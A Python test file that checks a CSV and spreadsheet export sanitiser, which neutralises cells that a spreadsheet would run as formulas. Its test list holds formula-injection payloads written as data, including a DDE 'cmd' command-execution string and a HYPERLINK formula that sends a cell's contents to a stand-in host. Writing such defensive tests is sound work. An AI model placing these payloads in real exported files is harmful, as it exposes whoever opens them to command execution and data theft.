"""Cells that a spreadsheet would run get an apostrophe; all others, numbers and dates among them, stay as they are."""

from __future__ import annotations

import csv
import io
import re

import polars as pl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from accordgraph.exports.excel_csv import safe as safe_column
from accordgraph.graph.csv_formulas import safe
from accordgraph.queries.rendering.formats import write

FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"x")', "-2+3+cmd|x"),
    *("\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "\u200b=1", "\x00=1", '"=1', "\uff1d1+1", "\uff20SUM(1)"),
    *(
        "a;=1",
        "a; =1",
        "a\t=1",
        "a\n=1",
        "a\r\n@x",
        'a;"=1',
        "a;\u200b+1",
        "=",
        "-",
        "\ttab",
        "\rreturn",
        "+380 44 200",
    ),
]
PLAIN = [
    *("", "NABU", "-5", "+5.25", "-1.5e-3", "2022-05-30", "2022", "[..2024]", "[2022-01-01..2022-12-31]", "2016?"),
    *(
        "a - b",
        "a, -b",
        "a=b",
        "me@example.org",
        "https://example.org/?a=-1",
        "'=1",
        "Anti-Corruption",
        "jit~ua~1",
        "a;b",
    ),
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_would_run_does_not(text: str) -> None:
    cell = safe(text)
    assert cell != text and cell.replace("'", "") == text.replace("'", "")
    assert not runs(cell)


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_no_formula_stays(text: str) -> None:
    assert safe(text) == text


def runs(text: str) -> bool:
    """Whether a spreadsheet that ends cells at semicolons, tabs or lines would run a part of a cell."""
    parts = re.split("[;\t\r\n]", text)
    seen = [re.sub('[^\\S ]|[\x00-\x20\x7f-\xa0\xad"\u200b-\u200f\ufeff]', "", part) for part in parts]
    return any(part[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20") and part[:1] for part in seen)


CELLS = st.lists(st.sampled_from([*"=+-@;\t\r\n \"'1.e,a", "\ufeff", "\u200b", "\uff1d", "\xa0", "é"]), max_size=8)


@given(CELLS.map("".join))
def test_no_cell_runs_but_numbers(text: str) -> None:
    is_number = re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?", text) is not None
    assert safe(text) == text if is_number else not runs(safe(text))


@given(st.one_of(CELLS.map("".join), st.text(st.characters(exclude_categories=["Cs"]), max_size=20)))
@example("-5\n")
@example("\x85=1")
def test_columns_are_made_safe_as_cells_are(text: str) -> None:
    assert pl.Series([text]).to_frame("a").select(safe_column(pl.col("a"))).item() == safe(text)


def test_answers_are_made_safe_with_their_headings_and_without_their_numbers() -> None:
    rows = [{"=a": "=1+1", "n": -5, "x": -1.5, "t": True, "u": None, "d": "-7"}]
    [head, row] = csv.reader(io.StringIO(write(rows, list(rows[0]), "csv", csv_safe=True)))
    assert head == ["'=a", "n", "x", "t", "u", "d"]
    assert row == ["'=1+1", "-5", "-1.5", "true", "", "-7"]
    assert write(rows, ["=a"], "csv") == "=a\n=1+1\n"
